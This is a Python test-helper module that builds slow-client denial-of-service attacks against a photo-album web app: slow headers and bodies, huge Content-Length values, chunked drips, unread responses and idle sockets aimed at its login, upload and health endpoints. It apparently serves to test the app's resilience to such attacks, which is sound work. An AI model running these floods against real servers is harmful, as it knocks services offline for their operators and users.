"""Clients that try to make a server wait for them, all at once and for as long as the test wants."""

import socket
import ssl
import threading
from collections.abc import Iterator, Mapping
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, field
from urllib.parse import urlsplit

MANY = 40
"""Of each attack. The servers under test have four threads for uploads."""
NO_SIZE = 100_000_000


@dataclass(frozen=True)
class Target:
    """A server, by the address that clients know. `cookies` and `token` are those of a user who attacks, in his `album`."""

    url: str
    certificate: str | bool = True
    cookies: str = ""
    token: str = ""
    album: int = 1
    static: str = "/static/"

    def line(self, receive_buffer: int = 0) -> socket.socket:
        address = urlsplit(self.url)
        line = socket.socket()
        line.settimeout(60)
        if receive_buffer:
            line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        line.connect((address.hostname, address.port))
        if address.scheme == "https":
            context = ssl.create_default_context(cafile=str(self.certificate))
            return context.wrap_socket(line, server_hostname=address.hostname)
        return line

    def request(self, method: str, path: str, headers: Mapping[str, str] | None = None, body: bytes = b"") -> bytes:
        told = {"Host": urlsplit(self.url).netloc} | dict(headers or {})
        lines = "".join(f"{name}: {value}\r\n" for name, value in told.items())
        return f"{method} {path} HTTP/1.1\r\n{lines}\r\n".encode() + body

    def signed_in(self, **headers: str) -> dict[str, str]:
        told = {"Cookie": self.cookies, "X-CSRFToken": self.token, "Origin": self.url, "Tus-Resumable": "1.0.0"}
        return told | {name.replace("_", "-"): value for name, value in headers.items()}


@dataclass(frozen=True)
class Attack:
    """Each of `count` clients sends `first`, then `drip` again and again. Of the answers nobody reads anything."""

    first: bytes = b""
    drip: bytes = b""
    count: int = MANY
    receive_buffer: int = field(default=0, kw_only=True)


FORM = "application/x-www-form-urlencoded"
INVENTED = {"Cookie": f"csrftoken={'a' * 32}; __Host-csrftoken={'a' * 32}", "Content-Type": FORM}


def slow_sign_in(target: Target) -> Attack:
    """A body for the sign-in form, which is read from anybody whose cookie looks right."""
    body = b"csrfmiddlewaretoken=" + b"a" * 32 + b"&username="
    return Attack(target.request("POST", "/accounts/login/", INVENTED | {"Content-Length": "9000"}, body), b"x")


def slow_chunks_to_sign_in(target: Target) -> Attack:
    told = INVENTED | {"Transfer-Encoding": "chunked"}
    return Attack(target.request("POST", "/accounts/login/", told, b"5\r\nuser=\r\n"), b"1\r\nx\r\n")


def large_sign_in(target: Target) -> Attack:
    told = INVENTED | {"Content-Length": str(NO_SIZE)}
    return Attack(target.request("POST", "/admin/login/", told, b"username=" + b"x" * 100_000), b"x" * 1000)


def file_to_sign_in(target: Target) -> Attack:
    told = {
        "Cookie": INVENTED["Cookie"],
        "Content-Type": "multipart/form-data; boundary=b",
        "Content-Length": str(NO_SIZE),
    }
    part = b'--b\r\nContent-Disposition: form-data; name="a"; filename="a"\r\n\r\n'
    return Attack(target.request("POST", "/accounts/login/", told, part), b"x" * 1000)


def slow_heads(target: Target) -> Attack:
    return Attack(target.request("GET", "/albums/").removesuffix(b"\r\n") + b"X-Slow: ", b"x")


def silent_lines(target: Target) -> Attack:
    return Attack(count=3 * MANY)


def slow_body_to_a_page_of_users(target: Target) -> Attack:
    """By nobody who is signed in."""
    told = {"Content-Type": FORM, "Content-Length": str(900_000)}
    return Attack(target.request("POST", "/albums/new/", told, b"title="), b"x")


def slow_form_of_a_user(target: Target) -> Attack:
    told = target.signed_in(Content_Type=FORM, Content_Length="900000")
    return Attack(target.request("POST", "/albums/new/", told, b"title="), b"x")


def slow_list_of_a_user(target: Target) -> Attack:
    told = target.signed_in(Content_Type="application/json", Content_Length=str(3 << 20))
    return Attack(target.request("POST", f"/albums/{target.album}/uploads/manifest/", told, b"["), b" ")


def large_lists_that_lack_their_end(target: Target) -> Attack:
    """By nobody who is signed in: together they are larger than the memory that is given to such."""
    told = {"Content-Type": "application/json", "Content-Length": str(3 << 20)}
    body = b" " * ((3 << 20) - 1)
    return Attack(target.request("POST", f"/albums/{target.album}/uploads/manifest/", told, body))


def slow_uploads_of_nobody(target: Target) -> Attack:
    path = "/uploads/0d9ff5b9-3f0f-4c0b-8a55-a05c0b3b1c2d/"
    told = {
        "Tus-Resumable": "1.0.0",
        "Upload-Offset": "0",
        "Content-Type": "application/offset+octet-stream",
        "Content-Length": str(NO_SIZE),
    }
    return Attack(target.request("PATCH", path, told), b"x")


def slow_forms_with_files_of_nobody(target: Target) -> Attack:
    told = {"Content-Type": "multipart/form-data; boundary=b", "Content-Length": str(NO_SIZE)}
    return Attack(target.request("POST", f"/albums/{target.album}/uploads/", told, b"--b\r\n"), b"x")


def who_reads_no_file(target: Target) -> Attack:
    return Attack(target.request("GET", target.static) * 20, receive_buffer=2048)


def who_reads_no_page(target: Target) -> Attack:
    return Attack(target.request("GET", "/accounts/login/") * 200, count=6, receive_buffer=2048)


def slow_health(target: Target) -> Attack:
    return Attack(target.request("GET", "/healthz").removesuffix(b"\r\n") + b"X-Slow: ", b"x")


def health_with_a_body(target: Target) -> Attack:
    return Attack(target.request("GET", "/healthz", {"Content-Length": "1000"}), b"x")


def health_very_often(target: Target) -> Attack:
    return Attack(target.request("GET", "/healthz") * 100, receive_buffer=2048)


KINDS = (
    slow_sign_in,
    slow_chunks_to_sign_in,
    large_sign_in,
    file_to_sign_in,
    slow_heads,
    silent_lines,
    slow_body_to_a_page_of_users,
    slow_form_of_a_user,
    slow_list_of_a_user,
    large_lists_that_lack_their_end,
    slow_uploads_of_nobody,
    slow_forms_with_files_of_nobody,
    who_reads_no_file,
    who_reads_no_page,
    slow_health,
    health_with_a_body,
    health_very_often,
)


@contextmanager
def under(target: Target, attack: Attack) -> Iterator[list[socket.socket]]:
    """The attack begins before the context does, and ends with it. The lines are the attacker's."""
    with ExitStack() as stack:
        lines = [stack.enter_context(target.line(attack.receive_buffer)) for _ in range(attack.count)]
        for line in lines:
            line.settimeout(1)
            with suppress(OSError):  # it was refused before all was sent
                line.sendall(attack.first)
        with _dripping(lines, attack.drip):
            yield lines


@contextmanager
def _dripping(lines: list[socket.socket], drip: bytes) -> Iterator[None]:
    is_over = threading.Event()

    def run() -> None:
        while drip and not is_over.wait(0.2):
            for line in lines:
                with suppress(OSError):
                    line.sendall(drip)
                if is_over.is_set():
                    return

    thread = threading.Thread(target=run)
    thread.start()
    try:
        yield
    finally:
        is_over.set()
        thread.join(120)
